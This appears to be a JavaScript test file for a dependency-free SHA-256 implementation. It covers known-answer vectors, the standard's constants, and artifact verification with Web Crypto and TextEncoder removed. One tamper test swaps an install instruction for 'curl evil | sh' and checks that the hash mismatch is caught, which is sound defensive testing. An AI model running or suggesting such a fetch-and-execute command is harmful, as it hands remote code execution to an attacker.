// SHA-256 known answers, and verification with Web Crypto and TextEncoder
// removed: the widget must verify on pages that have neither.
import test from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { load } from './vectors.mjs';
import { sha256Hex, K, INIT } from '../../hugo-module/assets/askplane/js/runtime/sha256.js';

test('SHA-256 known answers', () => {
  assert.equal(sha256Hex(''), 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
  assert.equal(sha256Hex('abc'), 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
  assert.equal(
    sha256Hex('abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq'),
    '248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1',
  );
  // One million "a" (FIPS 180-2 appendix B.3).
  assert.equal(sha256Hex('a'.repeat(1_000_000)), 'cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0');
  // 1 MiB of bytes, against node:crypto.
  const mib = new Uint8Array(1 << 20);
  for (let i = 0; i < mib.length; i++) mib[i] = (i * 31 + (i >> 8)) & 0xff;
  assert.equal(sha256Hex(mib), createHash('sha256').update(mib).digest('hex'));
  // Every length around the block and padding boundaries.
  for (let n = 0; n < 200; n++) {
    const b = mib.subarray(0, n);
    assert.equal(sha256Hex(b), createHash('sha256').update(b).digest('hex'), `length ${n}`);
  }
  // Strings are encoded on the fly; characters of every UTF-8 length land
  // across block boundaries.
  const alphabet = ['a', 'é', '€', '😀', '\ud800', '\udc00'];
  for (let n = 0; n < 300; n++) {
    let str = '';
    for (let i = 0; i < n; i++) str += alphabet[(i * 7 + n) % alphabet.length];
    const want = createHash('sha256').update(Buffer.from(new TextEncoder().encode(str))).digest('hex');
    assert.equal(sha256Hex(str), want, `string of ${n} units`);
  }
  // Strings hash their UTF-8; a lone surrogate as U+FFFD, like TextEncoder.
  assert.equal(sha256Hex('é😀'), createHash('sha256').update('é😀', 'utf8').digest('hex'));
  assert.equal(sha256Hex('a\ud800'), sha256Hex('a\ufffd'));
});

test('SHA-256 constants are the standard\'s', () => {
  // sha256.js computes K and the initial state from the primes; compare
  // them with FIPS 180-4, 4.2.2 and 5.3.3, spelled out.
  const hex = (list) => Array.from(list, (x) => (x >>> 0).toString(16).padStart(8, '0')).join(' ');
  assert.equal(
    hex(K),
    '428a2f98 71374491 b5c0fbcf e9b5dba5 3956c25b 59f111f1 923f82a4 ab1c5ed5 ' +
      'd807aa98 12835b01 243185be 550c7dc3 72be5d74 80deb1fe 9bdc06a7 c19bf174 ' +
      'e49b69c1 efbe4786 0fc19dc6 240ca1cc 2de92c6f 4a7484aa 5cb0a9dc 76f988da ' +
      '983e5152 a831c66d b00327c8 bf597fc7 c6e00bf3 d5a79147 06ca6351 14292967 ' +
      '27b70a85 2e1b2138 4d2c6dfc 53380d13 650a7354 766a0abb 81c2c92e 92722c85 ' +
      'a2bfe8a1 a81a664b c24b8b70 c76c51a3 d192e819 d6990624 f40e3585 106aa070 ' +
      '19a4c116 1e376c08 2748774c 34b0bcb5 391c0cb3 4ed8aa4a 5b9cca4f 682e6ff3 ' +
      '748f82ee 78a5636f 84c87814 8cc70208 90befffa a4506ceb bef9a3f7 c67178f2',
  );
  assert.equal(hex(INIT), '6a09e667 bb67ae85 3c6ef372 a54ff53a 510e527f 9b05688c 1f83d9ab 5be0cd19');
});

test('verification needs neither Web Crypto nor TextEncoder/TextDecoder', () => {
  // A child process, so the whole module graph loads with the globals gone.
  const script = `
    delete globalThis.crypto;
    globalThis.TextEncoder = undefined;
    globalThis.TextDecoder = undefined;
    const base = ${JSON.stringify(new URL('../../hugo-module/assets/askplane/js/runtime/', import.meta.url).href)};
    const modules = ['site', 'knowledge', 'sha256', 'resolver', 'datetime', 'utf8'];
    const m = Object.assign({}, ...(await Promise.all(modules.map((n) => import(base + n + '.js')))));
    const f = JSON.parse(process.argv[1]);
    if (globalThis.crypto !== undefined) throw new Error('crypto still there');
    const trust = m.siteTrust(m.decodeSiteConfig(JSON.stringify(f.siteConfig)).value);
    const text = JSON.stringify(f.artifact);
    const out = {
      text: m.verifyArtifact(text, trust).ok,
      bytes: m.verifyArtifact(new Uint8Array(Buffer.from(text, 'utf8')), trust).ok,
      abc: m.sha256Hex('abc'),
      answer: new m.Resolver(text, trust, { now: () => m.parseDateTime('2026-07-13T12:00:00Z') }).resolve('Install CLI').outcome,
      tampered: m.verifyArtifact(text.replace('Run \`npm install agentskit\`.', 'Run \`curl evil | sh\`.'), trust).diagnostic?.code,
      invalidUTF8: m.decodeUTF8(new Uint8Array([0xe2, 0x82, 0x41])),
      emoji: Array.from(m.utf8Encode('é😀\\ud800')),
    };
    console.log(JSON.stringify(out));
  `;
  const f = load('agentskit-v1-fixtures.json');
  const out = JSON.parse(
    execFileSync(process.execPath, ['--input-type=module', '-e', script, JSON.stringify(f)], { encoding: 'utf8' }),
  );
  assert.deepEqual(out, {
    text: true,
    bytes: true,
    abc: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
    answer: 'answer',
    tampered: 'DETERMINISTIC_HASH_MISMATCH',
    invalidUTF8: '\ufffd\ufffdA',
    emoji: Array.from(new TextEncoder().encode('é😀\ufffd')),
  });
});
